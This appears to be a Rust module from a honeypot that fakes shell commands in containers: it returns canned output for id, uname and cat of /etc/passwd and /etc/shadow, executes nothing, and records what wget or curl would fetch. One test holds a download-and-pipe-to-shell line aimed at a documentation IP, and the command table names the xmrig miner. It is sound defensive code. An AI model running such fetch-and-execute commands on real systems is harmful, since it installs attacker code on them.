//! Commands in containers: the handful that visitors try first give what they expect, the rest is not found. Nothing is executed.

use std::time::Duration;

use super::container::Fetch;

/// Nested shells, commands and bytes of output of one line.
const MAX_DEPTH: usize = 4;
const MAX_COMMANDS: usize = 64;
const MAX_OUTPUT: usize = 8 * 1024;

/// What `uname` says in a container: its name, and the machine's kernel.
#[derive(Debug, Clone, Default)]
pub(super) struct Place {
    pub(super) host: String,
    pub(super) kernel: Kernel,
}

/// Release and build of a kernel.
pub(super) type Kernel = (&'static str, &'static str);

/// What a command does.
#[derive(Debug, Clone, Default)]
pub(super) struct Ran {
    pub(super) output: Vec<u8>,
    pub(super) exit: i32,
    /// How long it runs; `None` = until it is stopped.
    pub(super) runs: Option<Duration>,
    /// What it fetches.
    pub(super) fetches: Vec<Fetch>,
}

/// The command is a shell that would read from its input.
pub(super) fn is_shell(words: &[String]) -> bool {
    match words.split_first() {
        Some((first, rest)) if matches!(base(first), "sh" | "bash" | "ash" | "dash") => {
            !rest.iter().any(|word| word == "-c")
        }
        Some((first, rest)) if base(first) == "chroot" => {
            rest.len() == 1 || is_shell(rest.get(1..).unwrap_or_default())
        }
        _ => false,
    }
}

/// Runs a command in this container.
pub(super) fn run(words: &[String], place: &Place) -> Ran {
    let mut shell =
        Shell { place, ran: Ran { runs: Some(Duration::from_millis(300)), ..Ran::default() }, left: MAX_COMMANDS };
    shell.command(words, 0);
    shell.ran.output.truncate(MAX_OUTPUT);
    shell.ran
}

/// Runs a line that was typed.
pub(super) fn run_line(line: &str, place: &Place) -> Ran {
    run(&["sh".to_owned(), "-c".to_owned(), line.to_owned()], place)
}

struct Shell<'a> {
    place: &'a Place,
    ran: Ran,
    left: usize,
}

impl Shell<'_> {
    fn say(&mut self, text: &str) {
        if self.ran.output.len() < MAX_OUTPUT {
            self.ran.output.extend_from_slice(text.as_bytes());
        }
    }

    fn takes(&mut self, time: Duration) {
        self.ran.runs = self.ran.runs.map(|runs| runs.saturating_add(time));
    }

    /// A line of commands joined by `;`, `&&`, `||`, `|`, `&`.
    fn line(&mut self, line: &str, depth: usize) {
        let mut skip = false;
        for (words, joint) in split(line) {
            if !skip && !words.is_empty() {
                let before = self.ran.output.len();
                self.command(&words, depth);
                if joint == "|" || words.iter().any(|word| word.starts_with('>')) {
                    self.ran.output.truncate(before);
                }
            }
            skip = match joint {
                "&&" => self.ran.exit != 0,
                "||" => self.ran.exit == 0,
                _ => false,
            };
        }
    }

    fn command(&mut self, words: &[String], depth: usize) {
        let Some((first, arguments)) = words.split_first() else { return };
        if depth > MAX_DEPTH || self.left == 0 {
            return;
        }
        self.left -= 1;
        self.ran.exit = 0;
        let argument = |at: usize| arguments.get(at).map_or("", String::as_str);
        match base(first) {
            "sh" | "bash" | "ash" | "dash" => {
                let script = arguments.iter().position(|word| word == "-c" || word == "-lc").and_then(|at| arguments.get(at + 1));
                if let Some(script) = script {
                    self.line(script, depth + 1);
                }
            }
            "chroot" => self.command(arguments.get(1..).unwrap_or_default(), depth + 1),
            "nsenter" | "nohup" | "setsid" | "exec" | "sudo" | "env" if arguments.iter().any(|word| !word.starts_with('-') && !word.contains('=')) => {
                let at = arguments.iter().position(|word| word == "--").map(|at| at + 1);
                let at = at.or_else(|| arguments.iter().position(|word| !word.starts_with('-') && word.parse::<u32>().is_err()));
                self.command(at.and_then(|at| arguments.get(at..)).unwrap_or_default(), depth + 1);
            }
            "id" => self.say("uid=0(root) gid=0(root) groups=0(root),1(bin),2(daemon),3(sys),4(adm),6(disk),10(wheel),11(floppy),20(dialout),26(tape),27(video)\n"),
            "whoami" => self.say("root\n"),
            "pwd" => self.say("/\n"),
            "hostname" => self.say(&format!("{}\n", self.place.host)),
            "uname" if argument(0) == "-a" => {
                let Place { host, kernel: (release, build) } = self.place;
                self.say(&format!("Linux {host} {release} {build} x86_64 Linux\n"));
            }
            "uname" if argument(0) == "-r" => self.say(&format!("{}\n", self.place.kernel.0)),
            "uname" if argument(0) == "-m" => self.say("x86_64\n"),
            "uname" => self.say("Linux\n"),
            "nproc" => self.say("4\n"),
            "echo" => {
                let until = arguments.iter().position(|word| word.starts_with('>')).unwrap_or(arguments.len());
                let text = arguments.get(..until).unwrap_or_default();
                let (text, end) = if argument(0) == "-n" { (text.get(1..).unwrap_or_default(), "") } else { (text, "\n") };
                self.say(&format!("{}{end}", text.join(" ")));
            }
            "ls" => self.say("bin\ndev\netc\nhome\nlib\nmedia\nmnt\nopt\nproc\nroot\nrun\nsbin\nsrv\nsys\ntmp\nusr\nvar\n"),
            "ps" => self.say("PID   USER     TIME  COMMAND\n    1 root      0:00 /bin/sh\n    7 root      0:00 ps\n"),
            "env" | "printenv" => self.say(&format!("HOSTNAME={}\nSHLVL=1\nHOME=/root\nPATH=/usr/local/sbin:/usr/local/bin:/usr/sbin:/usr/bin:/sbin:/bin\nPWD=/\n", self.place.host)),
            "cat" => arguments.iter().filter(|word| !word.starts_with(['-', '>'])).for_each(|path| self.cat(path)),
            "sleep" => match argument(0).trim_end_matches('s').parse() {
                Ok(seconds) => self.takes(Duration::from_secs(seconds)),
                Err(_) if matches!(argument(0), "infinity" | "inf") => self.ran.runs = None,
                Err(_) => self.ran.exit = 1,
            },
            "tail" if argument(0) == "-f" => self.ran.runs = None,
            "top" | "xmrig" => self.ran.runs = None,
            "wget" | "curl" => self.fetch(base(first), arguments),
            "apk" | "apt" | "apt-get" | "yum" | "pip" | "pip3" | "ping" => self.takes(Duration::from_secs(4)),
            "false" => self.ran.exit = 1,
            "exit" => self.ran.exit = argument(0).parse().unwrap_or(0),
            "true" | "cd" | "export" | "set" | "unset" | "ulimit" | "chmod" | "chown" | "chattr" | "mkdir" | "touch" | "rm" | "cp" | "mv" | "ln"
            | "mount" | "umount" | "kill" | "pkill" | "killall" | "crontab" | "sed" | "awk" | "grep" | "head" | "tail" | "sort" | "base64" | "tee" | "tar"
            | "date" | "history" | "test" | "[" | "sysctl" | "useradd" | "adduser" | "passwd" | "ssh-keygen" | "service" | "systemctl" | "iptables" => {}
            other => {
                self.say(&format!("sh: {other}: not found\n"));
                self.ran.exit = 127;
            }
        }
    }

    fn cat(&mut self, path: &str) {
        let trimmed = path.trim_start_matches("/mnt").trim_start_matches("/host");
        match trimmed {
            "/etc/hostname" => self.say(&format!("{}\n", self.place.host)),
            "/etc/os-release" => self.say("NAME=\"Alpine Linux\"\nID=alpine\nVERSION_ID=3.14.10\nPRETTY_NAME=\"Alpine Linux v3.14\"\nHOME_URL=\"https://alpinelinux.org/\"\nBUG_REPORT_URL=\"https://bugs.alpinelinux.org/\"\n"),
            "/etc/passwd" => self.say("root:x:0:0:root:/root:/bin/ash\nbin:x:1:1:bin:/bin:/sbin/nologin\ndaemon:x:2:2:daemon:/sbin:/sbin/nologin\nnobody:x:65534:65534:nobody:/:/sbin/nologin\n"),
            "/etc/shadow" => self.say("root:!::0:::::\nbin:!::0:::::\ndaemon:!::0:::::\nnobody:!::0:::::\n"),
            "/etc/crontab" | "/root/.ssh/authorized_keys" => {}
            _ => {
                self.say(&format!("cat: can't open '{path}': No such file or directory\n"));
                self.ran.exit = 1;
            }
        }
    }

    fn fetch(&mut self, tool: &str, arguments: &[String]) {
        let is_url = |word: &&String| {
            word.contains("://") || (!word.starts_with('-') && word.contains('.') && word.contains('/'))
        };
        for url in arguments.iter().filter(is_url) {
            self.ran.fetches.push((url.clone(), tool.to_owned()));
        }
        self.takes(Duration::from_secs(2));
    }
}

/// The last part of a program's path.
fn base(program: &str) -> &str {
    program.rsplit('/').next().unwrap_or(program)
}

/// Words of each command of a line, quotes undone, and what joins it to the next.
fn split(line: &str) -> Vec<(Vec<String>, &'static str)> {
    let mut commands = Vec::new();
    let (mut words, mut word, mut quote) = (Vec::new(), None::<String>, None);
    let mut rest = line.chars().peekable();
    while let Some(next) = rest.next() {
        match (quote, next) {
            (Some(open), _) if next == open => quote = None,
            (None, '\'' | '"') => {
                quote = Some(next);
                word.get_or_insert_default();
            }
            (None | Some('"'), '\\') => word.get_or_insert_default().extend(rest.next()),
            (None, ' ' | '\t' | '\r') => words.extend(word.take()),
            (None, ';' | '\n' | '|' | '&')
                if !(next == '&' && word.as_ref().is_some_and(|word| word.ends_with('>'))) =>
            {
                words.extend(word.take());
                let twice = rest.next_if_eq(&next).is_some();
                let joint = match (next, twice) {
                    ('&', true) => "&&",
                    ('|', true) => "||",
                    ('|', false) => "|",
                    _ => ";",
                };
                commands.push((std::mem::take(&mut words), joint));
            }
            _ => word.get_or_insert_default().push(next),
        }
    }
    words.extend(word);
    commands.push((words, ";"));
    commands.truncate(MAX_COMMANDS);
    commands
}

#[cfg(test)]
mod tests {
    use super::*;

    fn output(line: &str) -> String {
        String::from_utf8(run_line(line, &Place { host: "c0ffee".to_owned(), ..Place::default() }).output).unwrap()
    }

    #[test]
    fn lines_run_as_a_shell_would_run_them() {
        for (line, expected) in [
            ("echo a; echo 'b c' && echo d || echo e", "a\nb c\nd\n"),
            ("false && echo a; false || echo b", "b\n"),
            ("echo secret | base64", ""),
            ("echo x > /tmp/x 2>&1; hostname", "c0ffee\n"),
            ("chroot /mnt sh -c 'whoami'", "root\n"),
            ("nosuch", "sh: nosuch: not found\n"),
        ] {
            assert_eq!(output(line), expected, "{line}");
        }
        assert_eq!(run_line("sleep 5", &Place::default()).runs, Some(Duration::from_millis(5_300)));
    }

    #[test]
    fn what_is_fetched_is_known() {
        let ran = run_line("wget -q http://192.0.2.9/x.sh -O- | sh; curl -sL 192.0.2.9/y", &Place::default());
        assert_eq!(
            ran.fetches,
            [("http://192.0.2.9/x.sh", "wget"), ("192.0.2.9/y", "curl")]
                .map(|(url, tool)| (url.to_owned(), tool.to_owned()))
        );
    }

    #[test]
    fn shells_in_shells_have_an_end() {
        let mut line = "echo x".to_owned();
        for _ in 0..20 {
            line = format!("sh -c \"{}\"", line.replace('\\', "\\\\").replace('"', "\\\""));
            if line.len() > 100_000 {
                break;
            }
        }
        assert!(run_line(&line, &Place::default()).output.len() <= MAX_OUTPUT);
    }
}
